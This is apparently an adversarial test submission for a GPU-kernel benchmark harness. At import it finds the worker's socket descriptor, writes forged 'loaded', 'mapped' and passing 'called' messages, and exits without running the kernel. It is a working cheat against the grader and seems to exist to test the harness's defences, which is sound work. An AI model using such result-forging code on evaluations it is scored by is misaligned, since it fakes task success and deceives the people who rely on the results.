"""Attack (a forged result written straight to the result channel, then exit: gpu-mode/kernelbot
examples/identity_py/cheat-fd.py, gpu-mode/pygpubench exploits/submission_fd_overwrite.py and, after a harness
secret is recovered, submission_heap_sig_scan.py and the other signature scans): at import, before any call, find
the descriptor the harness reads results from and write a passing result on it in the harness's own words. Here
the channel is the worker's one socket (found by scanning its descriptors, as a worker forked from a standing
evaluator keeps its parent's command line); the file writes the messages the evaluator expects next, well formed:
"loaded", "mapped", and a "called" for the benchmark's CALLS correctness calls with no problem reported, then waits
WAIT_S and exits with status 0. No call ever runs.

Every message is a claim: the evaluator reads the outputs from the slots it shares with the worker and compares
each with its own reference. Stderr says where the forged messages went."""
import json
import os
import stat
import sys
import time

CALLS = 50  # the contest's inputs per gemm sample, a public number
WAIT_S = 5.0
FORGED = [{"kind": "loaded"}, {"kind": "mapped", "slots": CALLS},
          {"kind": "called", "calls": [{"host_ns": 1, "problem": ""} for _ in range(CALLS)]}]


def channel() -> int | None:
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    return None


_fd = channel()
if _fd is not None:
    os.write(_fd, "".join(json.dumps(m) + "\n" for m in FORGED).encode())
    print(f"[forged_exit] wrote {len(FORGED)} forged messages ({', '.join(m['kind'] for m in FORGED)}) on fd {_fd}, "
          f"then exit 0", file=sys.stderr, flush=True)
    time.sleep(WAIT_S)
    os._exit(0)


def custom_kernel(data):
    raise RuntimeError("never called")
